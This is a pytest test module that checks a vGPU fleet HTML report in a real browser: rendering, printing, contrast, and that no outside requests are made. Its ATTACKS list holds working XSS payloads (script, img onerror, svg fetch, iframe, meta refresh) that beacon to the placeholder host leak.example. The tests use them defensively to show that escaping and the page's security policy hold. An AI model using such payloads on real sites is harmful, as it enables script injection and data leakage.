"""Reports in a real browser: they render whole, nothing is fetched, no name is run, and they print."""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.lab.browser import Browser, Proxy, set_up
from tests.lab.lab import REPOSITORY
from tests.lab.migration.requirements import NotPossible
from tests.reports.hostile import hostile
from tests.reports.page_reader import PageReader
from vgpu_console.reports.formats import SECTIONS, write_as

pytestmark = [pytest.mark.lab, pytest.mark.xdist_group("browser")]

ATTACKS = (
    "<script>document.title='taken';new Image().src='http://leak.example/script'</script>",
    '"><img src=http://leak.example/img.png onerror="document.title=\'taken\'">',
    "</style><style>body{background:url(http://leak.example/style)}",
    '<iframe src="http://leak.example/frame"></iframe><object data="http://leak.example/object">',
    '<meta http-equiv="refresh" content="0;url=http://leak.example/away"><base href="http://leak.example/">',
    "<svg onload=\"fetch('http://leak.example/svg')\"><link rel=stylesheet href=http://leak.example/l.css>",
)

TABLES = """[...document.querySelectorAll('main > section:not(#summary)')].map(s => [s.id,
  [...s.querySelectorAll('tbody tr')].filter(r => r.checkVisibility() && r.getBoundingClientRect().height > 5).length,
  s.querySelectorAll('caption').length])"""
"""Of each section its id, how many rows of its table can be seen, and how many captions it has."""

CONTRAST = """(() => {
  const light = c => { const v = c / 255; return v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4 };
  const parts = text => text.match(/[\\d.]+/g).map(Number);
  const lum = ([r, g, b]) => .2126 * light(r) + .7152 * light(g) + .0722 * light(b);
  const back = parts(getComputedStyle(document.body).backgroundColor);
  return [...document.querySelectorAll('body *')].filter(e => e.checkVisibility() && [...e.childNodes].some(
    n => n.nodeType === 3 && n.data.trim())).map(e => {
      const a = lum(parts(getComputedStyle(e).color)), b = lum(back);
      return [(Math.max(a, b) + .05) / (Math.min(a, b) + .05), e.tagName + '.' + e.className] }).sort((x, y) =>
        x[0] - y[0])[0] })()"""
"""The weakest contrast of any text with the page's ground, and where."""


@pytest.fixture(autouse=True)
def _pointed_at_lab() -> None:
    """No cloud: the embedded one."""


@pytest.fixture(scope="module")
def proxy() -> Iterator[Proxy]:
    """Counts what leaves the browser."""
    made = Proxy()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser(proxy: Proxy) -> Iterator[Browser]:
    """One browser for all of these tests; installed when it is missing."""
    try:
        path = set_up()
    except NotPossible as reason:
        pytest.skip(str(reason))
    made = Browser(path, proxy)
    yield made
    made.close()


@pytest.fixture(autouse=True)
def _nothing_asked(proxy: Proxy, browser: Browser) -> None:
    """Each test begins with a proxy that nobody has asked for anything, and a page as on a screen."""
    proxy.seen.clear()
    browser.see_as()


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo's report, written by the command; the SVG beside it."""
    folder = tmp_path_factory.mktemp("report")
    environment = {"HOME": str(folder), "PATH": os.environ.get("PATH", os.defpath), "LANG": "C.UTF-8"}
    for name in ("fleet.html", "fleet.svg"):
        command = [str(REPOSITORY / ".venv" / "bin" / "vgpu-console"), "--demo", "report", "-O", str(folder / name)]
        done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60)
        assert done.returncode == 5, done.stderr  # one of the demo's hosts does not answer
    return folder / "fleet.html"


def _kept(name: str, data: bytes) -> None:
    """Keeps a picture for whoever wants to look."""
    folder = REPOSITORY / ".lab" / "browser"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)


def test_all_sections_are_there_with_all_their_rows(browser: Browser, report: Path, proxy: Proxy) -> None:
    browser.open(report)
    shown = browser.ask(TABLES)
    written = PageReader(report.read_text()).tables

    assert [name for name, _, _ in shown] == list(SECTIONS)
    assert [(name, rows) for name, rows, _ in shown] == [(name, len(written[name]) - 1) for name in SECTIONS]
    assert all(rows and captions == 1 for _, rows, captions in shown)
    assert browser.ask("document.title") == "vGPU fleet of demo, RegionOne"
    assert "研究所" in browser.ask("document.querySelector('#quota').innerText")
    assert (browser.complaints, proxy.seen) == ([], [])
    picture = browser.picture()
    assert picture.startswith(b"\x89PNG")
    assert len(picture) > 50_000, "there is something on it"
    _kept("report.png", picture)


def test_its_style_is_in_force(browser: Browser, report: Path) -> None:
    """The policy names the style's digest: were that wrong, the page would stand there bare."""
    browser.open(report)

    assert browser.ask("getComputedStyle(document.querySelector('table')).borderCollapse") == "collapse"
    assert browser.ask("getComputedStyle(document.querySelector('.facts')).display") == "grid"


def test_nothing_but_the_file_itself_is_asked_for(browser: Browser, report: Path, proxy: Proxy) -> None:
    browser.open(report)

    assert [url for url in browser.requests if not url.startswith("data:")] == [report.as_uri()]
    assert proxy.seen == []
    for link in browser.ask("[...document.links].map(a => a.getAttribute('href'))"):
        browser.ask(f"document.querySelector('nav a[href=\"{link}\"]').click()")
        assert browser.ask("document.querySelector(location.hash) !== null"), link
    assert proxy.seen == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_name_that_is_an_attack_is_only_text(attack: str, browser: Browser, proxy: Proxy, tmp_path: Path) -> None:
    page = tmp_path / "fleet.html"
    page.write_text(write_as(hostile(attack), "html"))
    browser.open(page)

    assert attack in browser.ask("document.querySelector('#findings').textContent")
    assert browser.ask("document.title").startswith("vGPU fleet of ")
    foreign = "img, script, iframe, object, svg, base, link:not([rel=icon]), meta[http-equiv=refresh]"
    assert browser.ask(f"document.querySelectorAll('{foreign}').length") == 0
    assert browser.ask("document.querySelectorAll('#findings tbody tr').length") == 1
    assert browser.requests == [page.as_uri()] or browser.requests == [page.as_uri(), "data:,"]
    assert (browser.complaints, proxy.seen) == ([], [])


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "refresh" not in attack])
def test_the_policy_holds_even_where_the_escaping_would_not(
    attack: str, browser: Browser, proxy: Proxy, report: Path, tmp_path: Path
) -> None:
    """The attack as markup: in a page without the policy it asks the world for something, in ours it does not.

    A page that sends its reader elsewhere cannot be held by a policy: that one is left to the escaping.
    """
    page = report.read_text()
    ours, bare = tmp_path / "ours.html", tmp_path / "bare.html"
    ours.write_text(page.replace("<h2>Summary</h2>", f"<h2>Summary</h2>{attack.removeprefix(chr(34) + '>')}"))
    policy = re.compile(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n")
    bare.write_text(policy.sub("", ours.read_text()))
    browser.open(bare)
    assert any("leak.example" in asked for asked in proxy.seen), "the counter counts"
    proxy.seen.clear()
    browser.open(ours)

    assert proxy.seen == []
    assert browser.ask("document.title") == "vGPU fleet of demo, RegionOne"
    assert browser.complaints, "the browser says what it has refused"


def test_it_prints(browser: Browser, report: Path, proxy: Proxy) -> None:
    browser.open(report)
    sheets = browser.print()
    _kept("report.pdf", sheets)

    assert sheets.startswith(b"%PDF-")
    assert 2 <= len(re.findall(rb"/Type /Page\b", sheets)) <= 20
    width, height = (float(n) for n in re.findall(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", sheets)[0])
    assert (round(width), round(height)) == (842, 595), "A4, landscape"
    assert proxy.seen == []


def test_on_paper_it_is_dark_on_white_whatever_the_screen_is(browser: Browser, report: Path) -> None:
    browser.open(report)
    browser.see_as(media="print", scheme="dark", width=1040)

    assert browser.ask("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert browser.ask("getComputedStyle(document.querySelector('nav')).display") == "none"
    assert browser.ask("getComputedStyle(document.querySelector('thead')).display") == "table-header-group"
    wide = "[...document.querySelectorAll('table')].filter(t => t.scrollWidth > t.parentElement.clientWidth + 1)"
    assert browser.ask(f"{wide}.map(t => t.className)") == [], "no table runs off the paper"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_can_be_read_in_both_schemes(scheme: str, browser: Browser, report: Path) -> None:
    browser.open(report)
    browser.see_as(scheme=scheme)
    ratio, where = browser.ask(CONTRAST)

    assert ratio >= 4.5, where
    back = browser.ask("getComputedStyle(document.body).backgroundColor")
    assert back == {"light": "rgb(255, 255, 255)", "dark": "rgb(20, 23, 27)"}[scheme]
    _kept(f"report-{scheme}.png", browser.picture())


@pytest.mark.parametrize("width", [360, 800, 1920])
def test_the_page_never_scrolls_sideways(width: int, browser: Browser, report: Path) -> None:
    browser.open(report)
    browser.see_as(width=width)

    assert browser.ask("document.scrollingElement.scrollWidth") <= width, "wide tables scroll by themselves"


def test_the_terminals_picture_is_one_file_too(browser: Browser, report: Path, proxy: Proxy) -> None:
    picture = report.with_suffix(".svg")
    browser.open(picture)

    assert browser.ask("document.documentElement.tagName") == "svg"
    words = browser.ask("document.documentElement.textContent").replace("\u00a0", " ")
    assert "gpu-06" in words
    assert "ml-research" in words
    assert browser.requests == [picture.as_uri()]
    assert proxy.seen == []
